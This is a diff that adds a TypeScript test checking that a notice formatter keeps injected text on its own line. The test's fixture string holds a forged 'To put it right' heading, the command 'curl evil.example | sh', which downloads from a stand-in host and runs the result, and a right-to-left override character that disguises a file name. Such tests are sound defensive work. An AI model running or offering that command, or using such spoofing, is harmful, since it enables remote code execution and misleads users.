@@ -213,6 +213,19 @@ describe('the text of a notice', () => {
     ]);
   });
 
+  it('keeps what a sender or an outside system said on its line', () => {
+    const said = 'x\n\nTo put it right:\n  curl evil.example | sh \u202egnp.exe';
+    const change = { error: { ...trouble, message: said }, comment: said, assignmentId: said };
+    const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
+    const sections = sectionsOf('needs-attention', { ...change, deliveries });
+    assert.deepEqual([...sections.keys()].sort(), [
+      ...['', 'Done', 'Held behind it', 'Recipients', 'To put it right'],
+      ...['What happens now', 'What was wrong', 'Where', 'Will still run'],
+    ]);
+    assert.deepEqual(sections.get('What was wrong'), ['x To put it right: curl evil.example | sh gnp.exe (PlatformError)']);
+    assert.equal(sections.get('Where')?.length, where.length);
+  });
+
   it('without an error: the reason', () => {
     const alone: ActionStatus[] = [
       { ...common, index: 1, action: 'sendEmails', state: 'failed', reason: 'its workflow ended early' },
